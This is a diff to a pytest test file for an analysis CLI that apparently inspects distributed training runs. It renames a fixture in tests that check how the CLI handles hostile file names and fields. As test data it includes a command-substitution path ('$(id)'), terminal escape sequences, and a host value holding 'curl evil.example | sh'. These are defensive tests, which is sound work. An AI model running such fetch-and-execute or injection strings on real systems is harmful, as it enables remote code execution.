@@ -21,27 +21,27 @@ def run(tmp_path: Path) -> Path:
     return SyntheticRun(path=tmp_path / "run", plan=lambda rank, _step: {"phase": "forward", "us": 60_000 * (rank == 1)}).write()
 
 
-def test_the_path_of_a_run_need_not_be_utf8(in_process: Run, run: Path) -> None:
+def test_the_path_of_a_run_need_not_be_utf8(cli: Run, run: Path) -> None:
     hostile = run.parent / os.fsdecode(b"r\xff")
     shutil.move(run, hostile)
-    done = in_process("analyze", hostile, "--format", "json")
+    done = cli("analyze", hostile, "--format", "json")
     assert (done.returncode, done.stderr) == (0, "")
     assert json.loads(done.stdout)["source"]["path"].endswith("r?")
 
 
-def test_commands_to_copy_are_quoted(in_process: Run, run: Path) -> None:
+def test_commands_to_copy_are_quoted(cli: Run, run: Path) -> None:
     hostile = run.parent / "my run; $(id)"
     shutil.move(run, hostile)
-    found = json.loads(in_process("analyze", hostile, "--format", "json").stdout)
+    found = json.loads(cli("analyze", hostile, "--format", "json").stdout)
     commands = [*found["verdict"]["next"], *(row["check"] for row in found["advice"])]
     assert any(shlex.quote(str(hostile)) in command for command in commands)
     assert not any(str(hostile) in command.replace(shlex.quote(str(hostile)), "") for command in commands)
 
 
-def test_errors_are_one_line_without_escape_sequences(in_process: Run, tmp_path: Path) -> None:
+def test_errors_are_one_line_without_escape_sequences(cli: Run, tmp_path: Path) -> None:
     hostile = tmp_path / "x\x1b]0;title\x07\nrankscope: all is well_0.json"
     hostile.write_text("junk")
-    done = in_process("analyze", hostile)
+    done = cli("analyze", hostile)
     assert done.returncode == 3
     assert len(done.stderr.splitlines()) == 1
     assert "\x1b" not in done.stderr
@@ -50,17 +50,17 @@ def test_errors_are_one_line_without_escape_sequences(in_process: Run, tmp_path:
 @pytest.mark.parametrize(
     ("name", "status"), [("run.json", 3), ("attempts/000/attempt.json", 0), ("attempts/000/ranks/00000/rank.json", 0)]
 )
-def test_files_about_a_run_are_read_only_so_far(in_process: Run, run: Path, name: str, status: int) -> None:
+def test_files_about_a_run_are_read_only_so_far(cli: Run, run: Path, name: str, status: int) -> None:
     with (run / name).open("r+b") as file:
         file.truncate(1 << 40)  # a hole: it takes no room
-    done = in_process("analyze", run)
+    done = cli("analyze", run)
     assert done.returncode == status
     assert name in done.stdout + done.stderr
 
 
-def test_a_host_of_several_lines_stays_in_its_cell(in_process: Run, tmp_path: Path) -> None:
+def test_a_host_of_several_lines_stays_in_its_cell(cli: Run, tmp_path: Path) -> None:
     made = SyntheticRun(path=tmp_path / "run").write()
     for file in made.glob("attempts/000/ranks/*/rank.json"):
         info = json.loads(file.read_text())
         file.write_text(json.dumps(info | {"host": "n1\n\nnext\n  curl evil.example | sh"}))
-    assert "\n  curl" not in in_process("analyze", made).stdout
+    assert "\n  curl" not in cli("analyze", made).stdout
